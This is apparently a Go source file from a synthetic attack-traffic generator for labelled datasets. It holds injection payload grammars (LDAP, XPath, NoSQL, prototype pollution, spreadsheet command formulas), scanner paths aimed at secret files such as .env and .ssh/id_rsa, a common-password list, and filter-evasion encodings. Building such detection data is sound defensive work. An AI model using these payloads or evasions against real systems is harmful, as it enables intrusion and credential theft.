1~*)(objectClass=*
1~«slugname»)(|(password=*)
1~*)(|(«slugnoun»=*))
1~' or '1'='1' or count(/«slugnoun»)=«n» or '
1~'] | //«slugnoun»/* | a['
1~' or string-length(//user[«n»]/child::node()[1])=«nn» or '
1~{"$ne":null}
1~{"$gt":""}
1~'; return true; var «a1»='
1~{"$where":"sleep(«n4»)"}
1~[$regex]=^«a1»
1~__proto__[«slugword»]=true
1~{"__proto__":{"isAdmin":true}}
1~constructor.prototype.«slugword»=«n»
1~<!--#include virtual="/«ptFile»"-->
1~<esi:include src="http://«chost»/«a3»"/>
1~=cmd|'/c calc'!A«n»
1~@SUM(1+1)*cmd|' /C «a3»'!A0`},
		// Known places that scanners ask for.
		{"scDir", "12~/\n2~/admin/\n2~/backup/\n2~/api/\n2~/old/\n2~/test/\n2~/dev/\n2~/app/\n1~/public/\n1~/wp/\n1~/blog/\n1~/web/\n1~/site/\n1~/cms/\n1~/v1/\n1~/staging/\n1~/«slugnoun»/\n1~/cgi-bin/\n1~/tmp/\n1~/uploads/\n1~/includes/\n1~/laravel/\n1~/vendor/\n1~/.well-known/\n1~/shop/\n1~/new/\n1~/server/\n1~/core/"},
		{"scName", "6~.env\n2~.env.«scEnv»\n4~.git/config\n2~.git/HEAD\n1~.svn/entries\n1~.DS_Store\n2~.htaccess\n1~.htpasswd\n2~.aws/credentials\n1~.ssh/id_rsa\n1~.vscode/sftp.json\n2~config.json\n2~config.php«scBak»\n2~wp-config.php«scBak»\n2~web.config\n2~phpinfo.php\n2~info.php\n2~backup.«scZip»\n1~«slugnoun».«scZip»\n1~dump.sql\n1~db.sql.gz\n1~database.sql\n1~composer.json\n1~composer.lock\n1~package.json\n1~Dockerfile\n1~docker-compose.yml\n1~id_rsa\n1~secrets.yml\n1~credentials.json\n1~settings.py\n1~.npmrc\n1~.bash_history\n1~error_log\n1~debug.log\n1~adminer.php\n1~adminer-4.«n».«n».php\n1~shell.php\n1~«a3».php\n1~c99.php\n1~test.php\n1~install.php\n1~setup.php\n1~upload.php\n1~xmlrpc.php\n1~login.action\n1~«a6».jsp\n1~server.key\n1~.terraform/terraform.tfstate\n1~sftp-config.json\n1~.circleci/config.yml\n1~.gitlab-ci.yml"},
		{"scEnv", "local\nprod\nproduction\nbak\nold\ndev\nexample\nsave\nstaging\nbackup"},
		{"scBak", "2~∅\n1~.bak\n1~~\n1~.old\n1~.save\n1~.swp\n1~.txt\n1~.orig"},
		{"scZip", "zip\ntar.gz\nrar\n7z\ntgz\nsql\nbak"},
		{"scApp", `
6~/wp-login.php
3~/wp-admin/
2~/wp-admin/install.php
2~/wp-includes/wlwmanifest.xml
2~/wp-content/plugins/«slugword»-«slugnoun»/readme.txt
2~/wp-json/wp/v2/users
1~/wp-admin/admin-ajax.php?action=revslider_show_image&img=«slugnoun»
2~/phpmyadmin/
2~/phpMyAdmin-«n».«n».«n»/index.php
1~/pma/index.php?lang=en
1~/mysql/admin/
2~/actuator/«scAct»
2~/manager/html
1~/jenkins/login
2~/solr/admin/info/system?wt=json
1~/console/
1~/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
1~/«slugnoun»/vendor/phpunit/phpunit/Util/PHP/eval-stdin.php
1~/HNAP1/
1~/boaform/admin/formLogin
1~/GponForm/diag_Form?images/
1~/setup.cgi?next_file=netgear.cfg
1~/owa/auth/logon.aspx
1~/ecp/Current/exporttool/
1~/autodiscover/autodiscover.json?@«a6».example/owa/
1~/remote/login
1~/dana-na/auth/url_default/welcome.cgi
1~/vpn/index.html
1~/global-protect/login.esp
1~/+CSCOE+/logon.html
1~/server-status
1~/server-info
1~/nginx_status
1~/cgi-bin/«a6».cgi
1~/cgi-bin/luci/
1~/cgi-bin/test-cgi
1~/_ignition/health-check
1~/telescope/requests
1~/_profiler/phpinfo
1~/app_dev.php/_profiler/open
1~/debug/default/view?panel=config
1~/?XDEBUG_SESSION_START=phpstorm
1~/index.php?s=/Index/\Think\app/invokefunction
1~/api/jsonws/invoke
1~/druid/index.html
1~/nacos/v1/auth/users?pageNo=1&pageSize=9
1~/v2/_catalog
1~/_cat/indices
1~/_all_dbs
1~/swagger-ui.html
1~/swagger/v1/swagger.json
1~/v3/api-docs
1~/openapi.json
1~/graphiql
1~/.well-known/openid-configuration/«a3»
1~/geoserver/web/
1~/struts2-showcase/index.action
1~/invoker/JMXInvokerServlet
1~/jmx-console/
1~/axis2/axis2-admin/
1~/joomla/administrator/
1~/administrator/index.php
1~/user/login?destination=«a3»
1~/CHANGELOG.txt
1~/sites/default/settings.php
1~/typo3/index.php
1~/magento_version
1~/downloader/
1~/ReportServer
1~/Telerik.Web.UI.WebResource.axd?type=rau
1~/elmah.axd
1~/trace.axd
1~/shell?cd+/tmp
1~/evox/about
1~/sdk
1~/nmaplowercheck17«n6»
1~/Trinity.txt.bak
1~/.well-known/acme-challenge/«a6».php
1~/hudson/script
1~/portal/redlion
1~/stalker_portal/server/tools/auth_simple.php
1~/ab2g
1~/t4
1~/webfig/
1~/login.cgi
1~/system_api.php
1~/c/version.js
1~/streaming/clients_live.php
1~/«scRand»
1~/«scRand».php
1~/«scRand»/
1~/«scRand».asp
1~/admin/«slugword».php
1~/admin«nn»/
1~/~«slugname»/
1~/%3f%2f«a3»
1~/«slugnoun»/«scRand».html
1~/index.php/«slugword»/«scRand»/`},
		{"scRand", "«tok»\n«a6»«n4»\n«hex8»\n«a6»-«a6»"},
		{"scAct", "env\nhealth\nheapdump\ngateway/routes\nmappings\nbeans\nloggers\njolokia/list\nthreaddump\nconfigprops"},
		{"scExt", "php\ncgi\npl\nasp\naspx\njsp\ndo\nhtm\ncfm\ndll\nsh\npy\nbak\ninc\nxml\ntxt\nlog\nini\nconf\ngif\nexe\nnsf\nphp3\nshtml"},
		{"canary", "%27%22%3E%3C«a6»\n«a6»%3C%2F-%3E\n«a6»%27«a3»\n«a6»%22«a6»\n%00«a6»\n«hex8»%60\n%3C«a6»%3E\nhttp%3A%2F%2F«a6».example.net%2F«a3»%3F\n%22%26ver%26\nXX«Slug2»XX\n«n6»%2D«n»\n;«a6»\n%7C«a6»\n%25%7B«n»%7D\n%5C\n%3F«a3»"},
		{"Slug2", "PATH\nURL\nFILE\nTEST"},
		{"scAny", "5~«scDir»«scName»\n6~«scApp»\n1~«scDir»«slugnoun».«scExt»\n1~«scDir»«scRand».«scExt»\n1~/«slugnoun».«scExt»?«pname»=«canary»\n1~/index.php?«pname»=«slugnoun»&«pname»=«canary»"},
		// Credentials, guesses, forced roles.
		{"cracked", `
3~123456
2~password
2~123456789
1~qwerty
1~«slugnoun»«nn»
3~«slugname»«n4»
2~«slugname»«nn»
2~«Slug»«nnn»!
1~«slugword»«slugnoun»
1~«slugname»19«nn»
1~iloveyou«n»
1~«tok»
1~P@ssw0rd«n»
1~welcome«nn»
1~abc123
1~«city»1
1~letmein«n»
1~monkey«nn»
1~dragon
1~football«n»`},
		{"Slug", "1~«adj»\n1~«noun»\n1~«first»\n1~Summer20\n1~Winter20"},
		{"rolejs", "true\n1\n\"admin\"\n[\"admin\"]\n\"superuser\"\n{\"role\":\"admin\"}"},
		{"roleparam", "isAdmin\nrole\nadmin\nuser_id\nis_staff\npermissions\nscope\ngroup\nverified\naccount_type\nimpersonate\ndebug\nX-User"},
		{"deepgql", `
query{«gqa»:products(first:«nnnn»){name reviews(first:«nnnn»){author{orders(first:«nnn»){items{product{reviews{author{name}}}}}}}}}
{__schema{types{name fields{name args{name type{name}}}}}}
query{a1:me{id}a2:me{id}a3:me{id}a4:me{id}a5:me{id}a6:me{id}a7:me{id}a8:me{id}«gqa»:me{email}}`},
		{"gqa", "«a3»\nx«n»"}, {"nnnn", "«n4»\n10000\n«nnn»"},
	}
}

// technique is one way to attack with a payload.
type technique struct {
	rule  int
	rawly bool // already encoded
	delay bool // a success shows in the latency
	place int  // inNothing = a parameter, else a place of its own
}

type payloads struct {
	byLabel                                           [16][]technique
	ptFile, ptSuf, dd, cracked, jwt, scAny, roleparam int
	rolejs, deepgql, email, canary                    int
}

func newPayloads(g *grammar) (*payloads, error) {
	p := &payloads{}
	var err error
	id := func(name string) int {
		i, e := g.rule(name)
		if e != nil && err == nil {
			err = e
		}
		return i
	}
	t := func(l traffic.Label, names ...string) {
		for _, n := range names {
			p.byLabel[l] = append(p.byLabel[l], technique{rule: id(n)})
		}
	}
	t(traffic.SQLInjection, "sqTaut", "sqUnion", "sqError", "sqBlind", "sqTime", "sqStack", "sqUnion", "sqTaut", "sqBare")
	p.byLabel[traffic.SQLInjection][4].delay = true
	t(traffic.XSS, "xsScript", "xsEvent", "xsAttr", "xsUri", "xsJs", "xsScript", "xsEvent", "xsBare")
	t(traffic.CommandInjection, "cmShell", "cmShell", "cmTmpl", "cmJndi", "cmSer", "cmShell")
	t(traffic.PathTraversal, "dd", "dd", "dd", "ptAbs")
	for i := range p.byLabel[traffic.PathTraversal] {
		p.byLabel[traffic.PathTraversal][i].rawly = true
	}
	t(traffic.OtherAttack, "oxSsrf", "oxXxe", "oxCrlf", "oxLdap", "oxSsrf")
	p.byLabel[traffic.OtherAttack][1].place = inBody
	p.byLabel[traffic.OtherAttack][2].rawly = true
	p.ptFile, p.ptSuf, p.dd = id("ptFile"), id("ptSuf"), id("dd")
	p.cracked, p.jwt, p.scAny = id("cracked"), id("badjwt"), id("scAny")
	p.roleparam, p.rolejs, p.deepgql = id("roleparam"), id("rolejs"), id("deepgql")
	p.email, p.canary = id("email"), id("canary")
	p.moreTechniques(id)
	return p, err
}

// habit is how one attacker writes: it stays the same in a campaign.
type habit struct {
	blank   string // what stands for a blank in SQL
	letters int    // 0 as written, 1 upper, 2 random, 3 keywords in comments
	enc     uint8
	dd      []byte // one step up
	depth   int
	written int // 0 as it is, else how spelled writes the special characters
}

func (g *generator) newHabit(r *rand.Rand, c *client) habit {
	h := habit{blank: " ", enc: c.enc, depth: 2 + r.IntN(9)}
	if r.IntN(4) == 0 {
		h.blank = [...]string{"/**/", "\t", "\n", "/*a*/", "+", "\v", "  ", "/*!*/", "\u00a0", "%20"}[r.IntN(10)]
	}
	h.letters = [...]int{0, 0, 0, 1, 1, 2, 3, 0}[r.IntN(8)]
	if r.IntN(7) == 0 {
		h.enc = [...]uint8{encFull, encDouble, encBare, encLenient}[r.IntN(4)]
	}
	if r.IntN(8) == 0 {
		h.written = 1 + r.IntN(6)
	}
	h.dd = g.grammar.expand(nil, r, g.payload.dd)
	return h
}

// payloadText writes one payload into a fresh slice.
func (g *generator) payloadText(r *rand.Rand, l traffic.Label, t technique, h *habit) []byte {
	gr := g.grammar
	if l == traffic.PathTraversal && t.rule == g.payload.dd {
		var b []byte
		if r.IntN(4) == 0 {
			b = append(appendSlug(b, pick(r, g.pools.noun)), '/')
		} else if r.IntN(5) == 0 {
			b = append(b, '/')
		}
		for range max(1, h.depth+r.IntN(3)-1) {
			b = append(b, h.dd...)
		}
		n := len(b)
		b = gr.expand(b, r, g.payload.ptFile)
		if bytes.Contains(h.dd, []byte("%2f")) && r.IntN(2) == 0 {
			b = append(b[:n:n], bytes.ReplaceAll(b[n:], []byte("/"), []byte("%2f"))...)
		}
		return gr.expand(b, r, g.payload.ptSuf)
	}
	b := gr.expand(nil, r, t.rule)
	switch l {
	case traffic.SQLInjection:
		b = letters(b, r, h.letters, false)
		if len(b) > 0 && b[0] == ' ' && r.IntN(2) == 0 {
			b = b[1:]
		}
		if h.blank != " " {
			b = bytes.ReplaceAll(b, []byte(" "), []byte(h.blank))
		}
	case traffic.XSS:
		if h.letters == 2 {
			b = letters(b, r, 2, true)
		}
		if h.written > 0 && r.IntN(2) == 0 {
			b = spelled(b, h.written)
		}
	case traffic.OtherAttack:
		if !t.rawly && t.place == inNothing && r.IntN(10) == 0 {
			b = letters(b, r, 2, false)
		}
	}
	return b
}

// spelled writes the characters that matter in another notation, hoping that
// somebody behind the filter reads it.
func spelled(b []byte, how int) []byte {
	var out []byte
	for _, c := range b {
		if c != '<' && c != '>' && c != '"' && c != '\'' && c != '(' {
			out = append(out, c)
			continue
		}
		hi, lo := hexLow[c>>4], hexLow[c&15]
		switch how {
		case 1:
			out = append(out, '\\', 'u', '0', '0', hi, lo)
		case 2:
			out = append(out, '\\', 'x', hi, lo)
		case 3:
			out = append(out, '&', '#', 'x', hi, lo, ';')
		case 4:
			out = append(strconv.AppendInt(append(out, '&', '#'), int64(c), 10), ';')
		case 5: // full-width forms
			out = utf8.AppendRune(out, rune(c)-0x20+0xff00)
		default:
			switch c {
			case '<':
				out = append(out, "&lt;"...)
			case '>':
				out = append(out, "&gt;"...)
			case '"':
				out = append(out, "&quot;"...)
			default:
				out = append(out, c)
			}
		}
	}
	return out
}

// letters changes the case of words as evasions do. tags limits it to the text
// behind a '<'.
func letters(b []byte, r *rand.Rand, how int, tags bool) []byte {
	if how == 0 {
		return b
	}
	if how == 3 {
		for _, w := range []string{"union", "select", "sleep", "concat", "from"} {
			if i := bytes.Index(b, []byte(w)); i >= 0 && r.IntN(2) == 0 {
				b = slices.Concat(b[:i], []byte("/*!50000"), b[i:i+len(w)], []byte("*/"), b[i+len(w):])
			}
		}
		return b
	}
	in := !tags
	for i, c := range b {
		if tags {
			if c == '<' {
				in = true
			} else if c != '/' && (c < 'a' || c > 'z') {
				in = false
			}
		}
		if in && c >= 'a' && c <= 'z' && (how == 1 || r.IntN(2) == 0) {
			b[i] = c - 32
		}
	}
	return b
}
